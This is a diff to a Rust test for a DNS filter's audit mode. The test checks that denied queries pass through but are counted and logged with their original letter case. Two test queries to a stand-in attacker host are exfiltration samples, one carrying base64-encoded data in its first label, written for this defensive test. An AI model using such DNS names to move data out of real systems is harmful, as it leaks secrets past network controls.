@@ -551,12 +551,18 @@ fn malformed_answers_teach_nothing_and_pass() {
 fn audit_mode_lets_denied_queries_through_but_reports_them() {
     let mut loaded = loaded(Mode::Audit);
     assert_eq!(udp_query(&loaded, "exfil.attacker.example"), PASS);
-    assert_eq!(loaded.count(Verdict::Audited, DropReason::DnsDenied), 1);
+    // The event keeps the letter case of the query: it can carry data.
+    assert_eq!(udp_query(&loaded, "c2VjcmV0.Attacker.example"), PASS);
+    assert_eq!(loaded.count(Verdict::Audited, DropReason::DnsDenied), 2);
     assert_eq!(loaded.count(Verdict::Dropped, DropReason::DnsDenied), 0);
-    let event = loaded.events().pop().unwrap();
-    assert_eq!(event.verdict, Verdict::Audited as u8);
+    let events = loaded.events();
+    assert!(events.iter().all(|e| e.verdict == Verdict::Audited as u8));
+    let names: Vec<&[u8]> = events
+        .iter()
+        .map(|e| &e.dns_name[..usize::from(e.dns_name_len)])
+        .collect();
     assert_eq!(
-        &event.dns_name[..usize::from(event.dns_name_len)],
-        b"exfil.attacker.example"
+        names,
+        [&b"exfil.attacker.example"[..], b"c2VjcmV0.Attacker.example"]
     );
 }
